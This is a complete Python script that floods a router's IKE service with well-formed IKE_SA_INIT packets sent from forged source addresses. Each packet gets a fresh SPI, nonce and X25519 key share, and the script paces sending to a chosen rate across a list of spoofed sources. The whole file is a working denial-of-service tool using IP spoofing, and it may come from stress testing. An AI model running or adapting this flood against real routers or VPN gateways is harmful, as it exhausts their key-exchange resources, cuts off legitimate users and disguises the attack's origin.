"""Flood a router with first messages of IKE (IKE_SA_INIT, RFC 7296 1.2) that
are as they should be, but for their source address: a fresh SPI, nonce and
public value each, the default profile's algorithms.

usage: attack_flood.py DESTINATION COUNT RATE SOURCE...

COUNT of them, RATE a second, from each SOURCE in turn.
"""

import os
import struct
import sys
import time

import packets

IKE_SA_INIT, INITIATOR = 34, 0x08
SA, KE, NONCE, NOTIFY = 33, 34, 40, 41
ENCR, PRF, GROUP = 1, 2, 4
AES_GCM_16, HMAC_SHA2_256, X25519 = 20, 5, 31
SIGNATURE_HASH_ALGORITHMS, SHA2_256, IDENTITY = 16431, 2, 5


def transform(last, kind, number, attributes=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attributes),
                       kind, 0, number) + attributes


def proposal():
    transforms = transform(False, ENCR, AES_GCM_16,
                           struct.pack("!HH", 0x800E, 256)) + \
        transform(False, PRF, HMAC_SHA2_256) + transform(True, GROUP, X25519)
    return struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0,
                       3) + transforms


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def first_message():
    body = payload(KE, proposal()) + \
        payload(NONCE, struct.pack("!HH", X25519, 0) + os.urandom(32)) + \
        payload(NOTIFY, os.urandom(32)) + \
        payload(0, struct.pack("!BBHHH", 0, 0, SIGNATURE_HASH_ALGORITHMS,
                               SHA2_256, IDENTITY))
    return os.urandom(8) + bytes(8) + struct.pack(
        "!BBBBII", SA, 0x20, IKE_SA_INIT, INITIATOR, 0, 28 + len(body)) + body


def main(destination, count, rate, *sources):
    begun = time.monotonic()
    for i in range(int(count)):
        source = sources[i % len(sources)]
        datagram = packets.udp(source, destination, 500, 500, first_message())
        packets.send_ip(packets.ip(source, destination, packets.UDP,
                                   datagram), destination)
        ahead = begun + (i + 1) / int(rate) - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)


main(*sys.argv[1:])
